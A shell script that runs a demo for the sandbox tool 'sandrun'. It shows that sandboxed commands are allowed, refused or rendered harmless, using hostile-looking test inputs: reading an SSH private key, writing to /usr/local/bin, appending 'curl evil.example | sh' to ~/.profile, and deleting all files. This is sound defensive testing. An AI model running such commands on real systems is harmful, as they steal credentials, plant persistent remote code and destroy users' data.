#!/bin/sh
# `make demo`: real programs in real sandboxes. Each step says what it tries and what must come of it; if something else
# comes of it, the demo fails. It works in a temporary directory with a home of its own, and needs no root.
set -eu
cd "$(dirname "$0")/.."
sandrun=$PWD/.venv/bin/sandrun
place=$(mktemp -d)
server=
trap 'rm -rf "$place"; [ -z "$server" ] || kill "$server" 2>/dev/null || true' EXIT
HOME=$place/home
export HOME
mkdir -p "$HOME/.ssh" "$place/project"
echo 'PRIVATE KEY' >"$HOME/.ssh/id_rsa"
echo '# my settings' >"$HOME/.profile"
cd "$place/project"
cat >hello.c <<'C'
#include <stdio.h>
int main(void) { puts("hello, built and run in a sandbox"); return 0; }
C
printf 'hello: hello.c\n\tcc -O1 -o hello hello.c\n' >Makefile

step() {
    printf '\n# %s\n' "$1"
}
# expect STATUS ARGUMENTS-OF-SANDRUN...: run it and show the last line it prints. "refused" is a failure of the command
# itself, so not one of the statuses by which sandrun says that the command did not run.
expect() {
    want=$1
    shift
    printf '$ sandrun'
    for word in "$@"; do
        case $word in
        *\'*) printf ' "%s"' "$word" ;;
        *[\ \;\$\"]*) printf " '%s'" "$word" ;;
        *) printf ' %s' "$word" ;;
        esac
    done
    got=0
    "$sandrun" -q "$@" </dev/null >"$place/output" 2>&1 || got=$?
    printf '\n'
    grep . "$place/output" | tail -n 2 | sed 's/^/  /'
    echo "  -> status $got"
    case $want in
    refused) [ "$got" -gt 0 ] && [ "$got" -lt 123 ] && return ;;
    *) [ "$got" -eq "$want" ] && return ;;
    esac
    cat "$place/output"
    echo "demo: expected $want" >&2
    exit 1
}

has() { # FACT: whether the doctor finds it here
    "$sandrun" -q --require "$1" -n -- true >/dev/null 2>&1
}

step 'allowed: build and run a program in the current directory'
expect 0 -- make
expect 0 -- ./hello
step 'refused: your keys, and writing outside the current directory'
expect refused -- cat "$HOME/.ssh/id_rsa"
expect refused -- sh -c 'echo evil >/usr/local/bin/evil'

step 'harmless: your start file, since the command has a home of its own, which is gone afterwards'
expect 0 -- sh -c "echo 'curl evil.example | sh' >>~/.profile"
grep -q evil "$HOME/.profile" && exit 1

if has mountns; then
    step 'harmless: a command that deletes everything, since its changes wait in a workspace'
    expect 0 --overlay . -- sh -c 'rm -f ./*; ls | wc -l'
    printf '$ sandrun workspace diff --stat; sandrun workspace discard; ls\n'
    "$sandrun" workspace diff --stat | sed 's/^/  /' || true
    "$sandrun" workspace discard 2>&1 | sed 's/^/  /'
    ls | sed 's/^/  /'
    [ -e hello.c ]
fi

step 'a web server on this machine, outside of any sandbox'
/usr/bin/python3 -u -m http.server --bind 127.0.0.1 --directory "$place/project" 0 >"$place/log" 2>&1 &
server=$!
while ! port=$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$place/log") || [ -z "$port" ]; do sleep 0.1; done
fetch="import urllib.request as u; print(u.urlopen('http://127.0.0.1:$port/Makefile').status)"
step 'refused: the network; allowed: the network for a profile that is for it, or one port'
expect refused -- /usr/bin/python3 -c "$fetch"
expect 0 -p net-only -- /usr/bin/python3 -c "$fetch"
if has 'landlock>=4'; then
    expect 0 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
else
    step 'this kernel cannot limit ports (Landlock ABI 4), so that is refused before anything runs'
    expect 125 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
fi

if has 'landlock>=6'; then
    step 'refused: other processes'
    expect refused -- sh -c "kill $server"
    kill -0 $server
fi

step "the status is the command's; the timeout is 124; sandrun's own failure is 125"
expect 7 -- sh -c 'exit 7'
expect 137 -- sh -c 'kill -9 $$'
expect 124 --timeout 200ms -- sleep 10
expect 125 --read /no/such/file -- true

step 'what the default profile enforces here, and how'
"$sandrun" --dry-run -- make | sed -n '/^protections/,/^files/p' | grep -v -e 'requested by' -e '^files' | head -n 40
printf '\nThe demo is complete: everything came out as it must.\n'
